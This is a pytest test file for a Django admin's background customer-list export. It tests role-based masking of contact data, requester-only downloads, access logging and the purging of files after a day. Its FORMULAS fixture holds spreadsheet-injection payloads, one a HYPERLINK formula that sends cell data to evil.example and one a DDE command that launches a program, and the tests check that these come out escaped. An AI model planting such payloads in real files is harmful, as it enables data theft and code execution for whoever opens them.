"""The customer list exported in the background: masked or in full as the requester may see
it, built once, handed only to its requester, deleted after a day."""

import csv
import hashlib
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import Group
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone

from config import roles
from customers.models import CustomerExport, PiiAccess
from customers.services import (
    customer_export_build,
    customer_export_files_purge,
    customer_export_request,
)
from customers.services import exports as export_services
from tests.conftest import wait_until

from .factories import CustomerFactory, SegmentFactory, SegmentMembershipFactory

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]
FIELDS = ["id", "first_name", "last_name", "email", "phone", "city", "country"]


@pytest.fixture(autouse=True)
def media(settings, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def customers() -> list[Any]:
    people = [
        CustomerFactory(
            first_name="Eve",
            last_name=name,
            email=f"eve{i}@mallory.example",
            email_normalized=f"eve{i}@mallory.example",
            phone=f"+4930123456{i}",
            city="Berlin",
        )
        for i, name in enumerate(FORMULAS)
    ]
    people.append(CustomerFactory(first_name="Ada", last_name="Lovelace", city="London"))
    return people


def request_export(client, *, fields=FIELDS, **extra: Any):
    return client.post(
        reverse("admin:customers_customer_export_background"), {"columns": fields, **extra}
    )


def rows_of(export: CustomerExport) -> list[dict[str, str]]:
    with export.file.open("rb") as stored:
        content = stored.read()
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def stored_exports(media: Path) -> list[str]:
    folder = media / "exports"
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def requested_and_built(client, django_capture_on_commit_callbacks, **extra: Any):
    with django_capture_on_commit_callbacks() as enqueued:
        response = request_export(client, **extra)
    export = CustomerExport.objects.get()
    assert response.url == reverse("admin:customers_customerexport_change", args=[export.pk])
    assert len(enqueued) == 1
    return customer_export_build(export_id=export.pk)


def test_marketing_operator_gets_contact_data_in_full_and_the_export_is_logged(
    client, make_user, customers, django_capture_on_commit_callbacks
):
    operator = make_user("mo", roles.MARKETING_OPERATOR)
    client.force_login(operator)

    export = requested_and_built(client, django_capture_on_commit_callbacks)

    assert export.status == CustomerExport.Status.READY, export.error
    assert (export.progress, export.rows_written, export.total) == (100, 4, 4)
    assert export.contact_in_full
    rows = rows_of(export)
    assert list(rows[0]) == FIELDS
    assert sorted(r["email"] for r in rows if r["first_name"] == "Eve") == [
        f"eve{i}@mallory.example" for i in range(3)
    ]
    # A phone number stays as stored, for a CRM reading the file back; formulas do not.
    assert "+49301234560" in [r["phone"] for r in rows]
    with export.file.open("rb") as stored:
        assert export.sha256 == hashlib.sha256(stored.read()).hexdigest()
    (access,) = PiiAccess.objects.filter(user=operator)
    assert access.kind == PiiAccess.Kind.EXPORT
    assert access.detail.startswith("4 customers exported with contact data in full")


def test_cmo_gets_contact_data_masked_formulas_escaped_and_nothing_logged(
    client, make_user, customers, django_capture_on_commit_callbacks
):
    cmo = make_user("cmo", roles.CMO)
    client.force_login(cmo)

    # Nothing in the request can ask for contact data in full.
    export = requested_and_built(
        client, django_capture_on_commit_callbacks, contact_in_full="on", show_pii="1"
    )

    assert not export.contact_in_full
    rows = rows_of(export)
    eves = [r for r in rows if r["first_name"] == "Eve"]
    assert {r["email"] for r in eves} == {"e***@m***.example"}
    assert {r["phone"] for r in eves} == {"'+49 ***** **60", "'+49 ***** **61", "'+49 ***** **62"}
    assert {r["city"] for r in eves} == {"B***"}
    assert sorted(r["last_name"] for r in eves) == sorted("'" + f for f in FORMULAS)
    assert not PiiAccess.objects.exists()


def test_only_the_chosen_whitelisted_fields_of_the_chosen_segment_are_written(
    client, make_user, customers, django_capture_on_commit_callbacks
):
    segment = SegmentFactory.create(name="Berlin")
    for person in customers[:2]:
        SegmentMembershipFactory.create(segment=segment, customer=person)
    client.force_login(make_user("cmo", roles.CMO))
    page = client.get(
        reverse("admin:customers_customer_export_background"), {"segment": segment.pk}
    )
    assert f'<option value="{segment.pk}" selected>' in page.content.decode()

    export = requested_and_built(
        client, django_capture_on_commit_callbacks, fields=["id", "country"], segment=segment.pk
    )

    assert rows_of(export) == [{"id": str(p.pk), "country": "DE"} for p in customers[:2]]
    assert export.selection == "Segment Berlin"


def test_a_field_outside_the_whitelist_is_refused(client, make_user, customers):
    client.force_login(make_user("cmo", roles.CMO))
    response = request_export(client, fields=["id", "email_normalized"])
    assert response.status_code == 200
    assert "email_normalized is not one of the available choices" in response.content.decode()
    assert not CustomerExport.objects.exists()


@pytest.mark.parametrize(
    "role", [roles.CISO, roles.AUDITOR, roles.LEGAL_REVIEWER, roles.SECURITY_ANALYST, None]
)
def test_a_forged_request_without_the_export_permission_changes_nothing(
    client, make_user, customers, role, django_capture_on_commit_callbacks
):
    client.force_login(make_user("someone", *([role] if role else [])))
    with django_capture_on_commit_callbacks() as enqueued:
        response = request_export(client)
    assert response.status_code == 403
    assert not CustomerExport.objects.exists()
    assert enqueued == []


def _built_by(make_user, role: str, username: str) -> tuple[Any, CustomerExport]:
    user = make_user(username, role)
    export = customer_export_request(user=user, fields=FIELDS)
    return user, customer_export_build(export_id=export.pk)


def _download(client, export: CustomerExport):
    return client.get(reverse("admin:customers_customerexport_download", args=[export.pk]))


def test_the_requester_downloads_the_file_and_the_download_is_logged(client, make_user, customers):
    operator, export = _built_by(make_user, roles.MARKETING_OPERATOR, "mo")
    client.force_login(operator)

    response = _download(client, export)

    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="customers-{export.pk}.csv"'
    body = b"".join(response.streaming_content)
    assert hashlib.sha256(body).hexdigest() == export.sha256
    export.refresh_from_db()
    assert export.download_count == 1 and export.downloaded_at is not None
    assert PiiAccess.objects.filter(user=operator, detail__startswith="downloaded").count() == 1


def test_nobody_but_the_requester_downloads_an_export(client, make_user, customers):
    _, full = _built_by(make_user, roles.MARKETING_OPERATOR, "mo")
    _, masked = _built_by(make_user, roles.CMO, "cmo")
    cmo = masked.requested_by
    other_operator = make_user("mo2", roles.MARKETING_OPERATOR)
    auditor = make_user("auditor", roles.AUDITOR)

    client.force_login(cmo)
    # A CMO without view_pii never gets a full-contact file someone else made.
    assert _download(client, full).status_code == 403
    assert _download(client, masked).status_code == 200
    client.force_login(other_operator)
    assert _download(client, full).status_code == 403
    assert _download(client, masked).status_code == 403
    client.force_login(auditor)
    assert _download(client, full).status_code == 403
    page = client.get(reverse("admin:customers_customerexport_change", args=[full.pk]))
    assert "only its requester may download it" in page.content.decode()
    assert CustomerExport.objects.get(pk=full.pk).download_count == 0


def test_a_requester_who_lost_view_pii_no_longer_downloads_their_full_file(
    client, make_user, customers
):
    operator, export = _built_by(make_user, roles.MARKETING_OPERATOR, "mo")
    operator.groups.set(Group.objects.filter(name=roles.CMO))
    client.force_login(operator)
    assert _download(client, export).status_code == 403


def test_a_file_not_ready_sends_the_requester_back_to_its_page(client, make_user, customers):
    cmo = make_user("cmo", roles.CMO)
    export = customer_export_request(user=cmo, fields=FIELDS)
    client.force_login(cmo)

    response = _download(client, export)

    assert response.url == reverse("admin:customers_customerexport_change", args=[export.pk])
    page = client.get(response.url).content.decode()
    assert "is waiting: no file yet" in page
    assert 'http-equiv="refresh"' in page


def test_the_export_page_shows_progress_and_the_download_link_to_its_requester(
    client, make_user, customers
):
    cmo, export = _built_by(make_user, roles.CMO, "cmo")
    client.force_login(cmo)

    page = client.get(reverse("admin:customers_customerexport_change", args=[export.pk]))
    listing = client.get(reverse("admin:customers_customerexport_changelist"))

    download = reverse("admin:customers_customerexport_download", args=[export.pk])
    assert '<progress max="100" value="100">' in page.content.decode()
    assert download in page.content.decode() and download in listing.content.decode()
    assert b'http-equiv="refresh"' not in page.content


def test_a_failure_leaves_no_file_and_a_readable_masked_reason(
    client, make_user, customers, monkeypatch, media
):
    cmo = make_user("cmo", roles.CMO)
    export = customer_export_request(user=cmo, fields=FIELDS)
    written = 0

    def broken(name: str, value: Any, mask: bool) -> Any:
        nonlocal written
        written += 1
        if written > 5:
            raise ValueError("cannot write eve0@mallory.example, +49 30 1234560")
        return value

    monkeypatch.setattr(export_services, "_cell", broken)
    export = customer_export_build(export_id=export.pk)

    assert export.status == CustomerExport.Status.FAILED
    assert export.error.startswith("The export failed and no file was kept. ValueError:")
    assert "eve0@mallory.example" not in export.error and "e***@m***.example" in export.error
    assert "1234560" not in export.error
    assert not export.file and stored_exports(media) == []
    assert not PiiAccess.objects.exists()


def test_a_deleted_segment_fails_the_export_instead_of_exporting_everyone(make_user, customers):
    segment = SegmentFactory.create(name="Gone")
    export = customer_export_request(
        user=make_user("cmo", roles.CMO), fields=FIELDS, segment_id=segment.pk
    )
    segment.delete()

    export = customer_export_build(export_id=export.pk)

    assert export.status == CustomerExport.Status.FAILED
    assert export.error.endswith("The segment Gone was deleted.")


def test_a_second_run_does_nothing_and_a_stale_run_is_taken_over(make_user, customers, settings):
    operator = make_user("mo", roles.MARKETING_OPERATOR)
    export = customer_export_request(user=operator, fields=FIELDS)

    first = customer_export_build(export_id=export.pk)
    again = customer_export_build(export_id=export.pk)

    assert (again.status, again.file.name, again.sha256) == (
        first.status,
        first.file.name,
        first.sha256,
    )
    assert PiiAccess.objects.filter(user=operator).count() == 1

    running = customer_export_request(user=operator, fields=FIELDS)
    CustomerExport.objects.filter(pk=running.pk).update(
        status=CustomerExport.Status.RUNNING, started_at=timezone.now()
    )
    assert customer_export_build(export_id=running.pk).status == CustomerExport.Status.RUNNING
    long_ago = timezone.now() - timedelta(seconds=settings.Q_CLUSTER["timeout"] + 1)
    CustomerExport.objects.filter(pk=running.pk).update(started_at=long_ago)
    assert customer_export_build(export_id=running.pk).status == CustomerExport.Status.READY


def test_a_run_taken_over_midway_stores_nothing(make_user, customers, monkeypatch, media):
    export = customer_export_request(user=make_user("cmo", roles.CMO), fields=FIELDS)
    monkeypatch.setattr(export_services, "CHUNK_ROWS", 2)
    real_chunks = export_services._chunks

    def chunks_then_taken_over(export: CustomerExport):
        for chunk in real_chunks(export):
            yield chunk
            # Another worker claims it as stale between two pages.
            CustomerExport.objects.filter(pk=export.pk).update(started_at=timezone.now())

    monkeypatch.setattr(export_services, "_chunks", chunks_then_taken_over)
    customer_export_build(export_id=export.pk)

    assert stored_exports(media) == []
    assert CustomerExport.objects.get(pk=export.pk).status == CustomerExport.Status.RUNNING


def test_rows_are_read_a_page_at_a_time(
    make_user, customers, monkeypatch, django_assert_num_queries
):
    export = customer_export_request(user=make_user("cmo", roles.CMO), fields=FIELDS)
    monkeypatch.setattr(export_services, "CHUNK_ROWS", 2)
    CustomerFactory.create_batch(2)  # 6 customers: 3 full pages and an empty one

    # Claim, load, 2 permission reads, count, total; 4 pages and 3 progress saves; the
    # ready record in its savepoint; reload. Two queries a page, none a row.
    with django_assert_num_queries(17):
        export = customer_export_build(export_id=export.pk)
    assert export.rows_written == 6


def test_files_are_deleted_a_day_after_they_were_built(
    make_user, customers, media, django_capture_on_commit_callbacks
):
    cmo = make_user("cmo", roles.CMO)
    old = customer_export_build(export_id=customer_export_request(user=cmo, fields=FIELDS).pk)
    recent = customer_export_build(export_id=customer_export_request(user=cmo, fields=FIELDS).pk)
    CustomerExport.objects.filter(pk=old.pk).update(
        finished_at=timezone.now() - timedelta(days=1, minutes=1)
    )
    # What a run killed after storing its file would leave behind.
    default_storage.save(f"exports/customers-{old.pk}-crashed.csv", ContentFile(b"id\n1\n"))
    assert len(stored_exports(media)) == 3

    with django_capture_on_commit_callbacks(execute=True):
        assert customer_export_files_purge() == 1
    with django_capture_on_commit_callbacks(execute=True):
        assert customer_export_files_purge() == 0

    assert stored_exports(media) == [Path(recent.file.name).name]
    old.refresh_from_db()
    assert not old.file and old.purged_at is not None


def test_a_deleted_file_is_refused_with_the_reason(client, make_user, customers):
    cmo, export = _built_by(make_user, roles.CMO, "cmo")
    CustomerExport.objects.filter(pk=export.pk).update(finished_at=timezone.now() - timedelta(2))
    customer_export_files_purge()
    client.force_login(cmo)

    page = client.get(
        reverse("admin:customers_customerexport_download", args=[export.pk]), follow=True
    )

    assert "its file was deleted 1 day(s) after it was built" in page.content.decode()


@pytest.mark.slow
def test_the_task_cluster_builds_a_requested_export(
    task_cluster, client, make_user, media, customers
):
    client.force_login(make_user("mo", roles.MARKETING_OPERATOR))
    request_export(client)
    export = CustomerExport.objects.get()

    task_cluster.start(workers=1, MEDIA_ROOT=str(media))
    wait_until(
        lambda: CustomerExport.objects.get(pk=export.pk).is_finished,
        timeout=90,
        message="the task cluster did not build the export",
    )
    export.refresh_from_db()
    assert export.status == CustomerExport.Status.READY, export.error
    assert export.progress == 100
    assert len(rows_of(export)) == 4
    assert _download(client, export).status_code == 200


def test_a_record_merged_into_another_is_not_exported(
    client, make_user, customers, django_capture_on_commit_callbacks
):
    survivor, merged = customers[-1], customers[0]
    merged.merged_into = survivor
    merged.save(update_fields=["merged_into"])
    client.force_login(make_user("mo", roles.MARKETING_OPERATOR))

    export = requested_and_built(client, django_capture_on_commit_callbacks)

    assert export.rows_written == export.total == 3
    assert merged.email not in [row["email"] for row in rows_of(export)]
    assert "Lovelace" in [row["last_name"] for row in rows_of(export)]
